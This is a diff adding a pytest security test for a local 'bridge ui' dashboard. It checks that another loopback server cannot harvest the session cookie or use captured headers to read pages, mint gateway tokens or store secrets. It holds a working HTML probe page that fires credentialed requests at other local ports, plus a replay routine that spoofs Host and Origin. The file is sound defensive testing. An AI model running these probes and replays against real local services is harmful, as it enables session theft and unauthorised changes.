@@ -1,0 +1,300 @@
+"""`bridge ui` attacked as another program on the same machine would (issue 26).
+
+The dashboard runs as a user runs it, and the user logs in through what it printed, in the real Chromium.
+Then the user's browser opens a page of another local server: it makes the browser request a loopback
+"attacker" server on another port (images on 127.0.0.1 and localhost, fetch with credentials, iframes, a
+navigation). The attacker records every header it receives and replays every cookie and header it got against
+the dashboard, with whatever Host and Origin it likes, on every path it can guess, trying to read a page, mint
+a gateway token or store a secret. It must get nothing.
+
+The login URL comes from the file the first line names (`open file:///.../login-PORT.html`, a meta-refresh
+page), or from the line itself when it prints the URL.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+import secrets
+import signal
+import socket
+import subprocess
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from urllib.parse import unquote, urlsplit
+
+import httpx
+import pytest
+from selenium.webdriver.remote.webdriver import WebDriver
+from selenium.webdriver.support.ui import WebDriverWait
+
+from tests import test_ui_browser
+from tests.conftest import Vault
+from tests.support.bridge_proc import BRIDGE
+from tests.support.pg import PgCluster
+from tests.support.sockets import HttpServer, Seen
+
+browser = test_ui_browser.browser
+provider = test_ui_browser.provider
+"""The real Chromium and the loopback OpenAI of the dashboard's own tests."""
+WAIT_S = test_ui_browser.WAIT_S
+COOKIE = "bridge_session"
+URL = re.compile(r"https?://[^\s\"'<>]+")
+GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
+       b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
+
+
+def login_url_of(line: str) -> tuple[str, str, Path | None]:
+    """(what the user opens, the login URL itself, the login file if any) from the first line printed."""
+    opened = line.split()[3]
+    if opened.startswith("file://"):
+        path = Path(unquote(urlsplit(opened).path))
+        found = [u for u in URL.findall(html.unescape(path.read_text())) if "token=" in u]
+        assert found, f"no login URL in {path}"
+        return opened, found[0], path
+    return opened, opened, None
+
+
+class Ui:
+    """`bridge ui --no-browser --port 0` as a user runs it; stopped with a signal."""
+
+    def __init__(self, env: dict[str, str], *extra: str) -> None:
+        self.proc = subprocess.Popen([str(BRIDGE), "ui", "--no-browser", "--port", "0", *extra], env=env,
+                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        assert self.proc.stdout is not None and self.proc.stderr is not None
+        self.line = self.proc.stdout.readline()
+        assert self.line.startswith("bridge ui: open "), self.line + self.proc.stderr.read()
+        self.opened, self.login_url, self.login_file = login_url_of(self.line)
+        parts = urlsplit(self.login_url)
+        self.origin = f"{parts.scheme}://{parts.netloc}"
+        self.port = parts.port or 80
+        self.login_path = self.login_url[len(self.origin):]
+
+    def stop(self, sig: int = signal.SIGINT) -> tuple[int, str, str]:
+        self.proc.send_signal(sig)
+        out, err = self.proc.communicate(timeout=WAIT_S)
+        return self.proc.returncode, self.line + out, err
+
+    def kill(self) -> None:
+        if self.proc.poll() is None:
+            self.proc.kill()
+            self.proc.communicate()
+
+
+@pytest.fixture
+def ui(env_bootstrap: dict[str, str], provider: object) -> Iterator[Ui]:
+    dashboard = Ui(env_bootstrap)
+    try:
+        yield dashboard
+    finally:
+        dashboard.kill()
+
+
+def fresh(driver: WebDriver) -> WebDriver:
+    """The module's browser with no cookie of an earlier test's dashboard."""
+    driver.execute_cdp_cmd("Network.clearBrowserCookies", {})
+    return driver
+
+
+def log_in(driver: WebDriver, dashboard: Ui) -> str:
+    """Open what the dashboard printed, as the user would; the page it lands on."""
+    driver.get(dashboard.opened)
+    WebDriverWait(driver, WAIT_S).until(lambda d: d.current_url.startswith(dashboard.origin + "/")
+                                        and "/login" not in d.current_url)
+    url: str = driver.current_url
+    assert url.endswith("/secrets"), url
+    return url
+
+
+@dataclass
+class Heard:
+    """One request a loopback server received, with the Host it was sent to."""
+
+    method: str
+    path: str
+    headers: dict[str, str]
+
+
+PROBES = """<!doctype html><title>a local dev server</title>
+<p>nothing to see</p>
+<iframe src="http://127.0.0.1:{port}/frame-ip"></iframe>
+<iframe src="http://localhost:{port}/frame-localhost"></iframe>
+<script>
+const base = ["http://127.0.0.1:{port}", "http://localhost:{port}"];
+const paths = ["/img", "/secrets", "/login", "/static/app.js", "/tokens"];
+const loads = [];
+for (const b of base) for (const p of paths) {{
+  loads.push(new Promise(done => {{ const i = new Image(); i.onload = i.onerror = done; i.src = b + p + "?img"; }}));
+  loads.push(fetch(b + p + "?fetch", {{credentials: "include", mode: "no-cors"}}).catch(() => null));
+  loads.push(fetch(b + p + "?cors", {{credentials: "include"}}).catch(() => null));
+}}
+for (const f of document.querySelectorAll("iframe")) {{
+  loads.push(new Promise(done => {{ f.complete ? done() : f.addEventListener("load", done); }}));
+}}
+Promise.all(loads).then(() => {{ location.href = "http://127.0.0.1:{port}/navigated"; }});
+</script>"""
+
+
+class Listener(HttpServer):
+    """A loopback server on its own port that records every request and header it gets: a dev server, a local
+    tool, a compromised package's server. `/page` makes the browser request `target`'s port every way it can."""
+
+    def __init__(self) -> None:
+        self.heard: list[Heard] = []
+        self.navigated = threading.Event()
+        self.target = 0
+        self.set_cookie = ""
+        super().__init__()
+
+    def answer(self, conn: socket.socket, seen: Seen) -> None:
+        self.heard.append(Heard(seen.method, seen.path, dict(seen.headers)))
+        path = seen.path.split("?")[0]
+        if path == "/page":
+            body, kind = PROBES.format(port=self.target or self.port).encode(), "text/html"
+        elif path == "/img":
+            body, kind = GIF, "image/gif"
+        else:
+            body, kind = b"<!doctype html><p>ok</p>", "text/html"
+        cookie = f"Set-Cookie: {self.set_cookie}\r\n" if self.set_cookie else ""
+        head = (f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n{cookie}"
+                "Cache-Control: no-store\r\nConnection: close\r\n\r\n")
+        conn.sendall(head.encode() + body)
+        if path == "/navigated":
+            self.navigated.set()
+
+    def cookies(self) -> set[str]:
+        return {h.headers["cookie"] for h in self.heard if "cookie" in h.headers}
+
+
+@pytest.fixture
+def attacker() -> Iterator[Listener]:
+    server = Listener()
+    try:
+        yield server
+    finally:
+        server.stop()
+
+
+@pytest.fixture
+def third() -> Iterator[Listener]:
+    server = Listener()
+    try:
+        yield server
+    finally:
+        server.stop()
+
+
+def visit_other_servers(driver: WebDriver, attacker: Listener, third: Listener) -> None:
+    """The user, logged in, opens a page of the attacker's own server and one of a third local server whose
+    page points at the attacker: each makes the browser request the attacker's port every way it can."""
+    third.target = attacker.port
+    for page in (f"{attacker.url}/page", f"http://localhost:{third.port}/page", f"{third.url}/page"):
+        attacker.navigated.clear()
+        driver.get(page)
+        assert attacker.navigated.wait(WAIT_S), f"the probes of {page} never finished"
+
+
+@dataclass
+class Replay:
+    """The attacker with what it collected: every way it can think of to use it against the dashboard."""
+
+    port: int
+    heard: list[Heard]
+    wins: list[str] = field(default_factory=list)
+
+    def hosts(self) -> list[str]:
+        return [f"127.0.0.1:{self.port}", f"localhost:{self.port}"]
+
+    def prefixes(self) -> list[str]:
+        """"" and any path prefix a Referer or a request path it saw could hold (a path secret, if leaked)."""
+        found = {""}
+        for h in self.heard:
+            for url in (h.headers.get("referer", ""), h.path):
+                segments = urlsplit(url).path.split("/")
+                for n in range(2, len(segments)):
+                    found.add("/".join(segments[:n]))
+        return sorted(found)
+
+    def header_sets(self) -> list[dict[str, str]]:
+        """For each distinct Cookie header it was sent (and none): the whole request as the browser sent it, and
+        the cookie alone (the attacker is no browser, and drops Sec-Fetch-* and the rest at will)."""
+        kept: dict[str, dict[str, str]] = {"": {}}
+        for h in self.heard:
+            cookie = h.headers.get("cookie", "")
+            if cookie and cookie not in kept:
+                kept[cookie] = {k: v for k, v in h.headers.items()
+                                if k not in ("host", "content-length", "connection", "origin", "referer")}
+        return [*kept.values(), *({"cookie": c} for c in kept if c)]
+
+    def run(self, token_name: str, secret_name: str) -> list[str]:
+        with httpx.Client(base_url=f"http://127.0.0.1:{self.port}", follow_redirects=False, timeout=WAIT_S) as client:
+            for headers in self.header_sets():
+                for host in self.hosts():
+                    for prefix in self.prefixes():
+                        self.attempt(client, headers, host, prefix, token_name, secret_name)
+        return self.wins
+
+    def attempt(self, client: httpx.Client, headers: dict[str, str], host: str, prefix: str,
+                token_name: str, secret_name: str) -> None:
+        base = {**headers, "host": host}
+        sent = "the cookie alone" if list(headers) == ["cookie"] else f"{len(headers)} headers the browser sent"
+        for path in ("/secrets", "/tokens", "/audit", "/doctor", "/", "/login"):
+            page = client.get(prefix + path, headers=base)
+            if page.status_code == 200:
+                self.wins.append(f"GET {host}{prefix}{path} with {sent}: 200")
+            if 'name="csrf" value="' not in page.text:
+                continue
+            csrf = page.text.split('name="csrf" value="')[1].split('"')[0]
+            for origin in (f"http://{h}" for h in self.hosts()):
+                posted = {**base, "origin": origin, "content-type": "application/x-www-form-urlencoded"}
+                minted = client.post(prefix + "/tokens", headers=posted,
+                                     data={"csrf": csrf, "name": token_name, "tenant": "default", "allow": "OPENAI_API_KEY"})
+                if "ocbt_" in minted.text:
+                    self.wins.append(f"POST {host}{prefix}/tokens as {origin} with {sent}: minted a gateway token")
+                stored = client.post(prefix + "/secrets", headers=posted,
+                                     data={"csrf": csrf, "name": secret_name, "value": "attacker-" + secrets.token_hex(8),
+                                           "tenant": "default", "type": "generic"})
+                if stored.status_code == 303 and "error" not in client.get(stored.headers["location"], headers=base).text:
+                    self.wins.append(f"POST {host}{prefix}/secrets as {origin} with {sent}: stored a secret")
+
+
+def tokens_named(pg: PgCluster, name: str) -> int:
+    with pg.connect("postgres", autocommit=True) as conn:
+        row = conn.execute("SELECT count(*) FROM vault_bridge.gateway_tokens WHERE name = %s", (name,)).fetchone()
+    assert row is not None
+    return int(row[0])
+
+
+def drop_tokens(pg: PgCluster, name: str) -> None:
+    with pg.connect("postgres", autocommit=True) as conn:
+        conn.execute("DELETE FROM vault_bridge.gateway_tokens WHERE name = %s", (name,))
+
+
+def test_another_local_server_gets_no_page_no_token_and_no_change_from_what_the_browser_sends_it(
+    ui: Ui, browser: WebDriver, attacker: Listener, third: Listener, pg: PgCluster, vault: Vault,
+) -> None:
+    driver = fresh(browser)
+    log_in(driver, ui)
+    visit_other_servers(driver, attacker, third)
+    token_name = "attacker-" + secrets.token_hex(3)
+    secret_name = "ATTACKER_" + secrets.token_hex(3).upper()
+    vault.names.append(secret_name)
+    try:
+        wins = Replay(ui.port, attacker.heard + third.heard).run(token_name, secret_name)
+        minted = tokens_named(pg, token_name)
+    finally:
+        drop_tokens(pg, token_name)
+    assert not wins and not minted, "the attacker got in with what the browser sent it:\n" + "\n".join(wins)
+
+
+def test_the_session_cookie_never_reaches_another_local_port(
+    ui: Ui, browser: WebDriver, attacker: Listener, third: Listener,
+) -> None:
+    driver = fresh(browser)
+    log_in(driver, ui)
+    visit_other_servers(driver, attacker, third)
+    assert attacker.heard, "the browser never reached the attacker"
+    leaked = [c for c in attacker.cookies() | third.cookies() if COOKIE in c]
+    assert not leaked, f"another port received the dashboard's cookie: {leaked}"
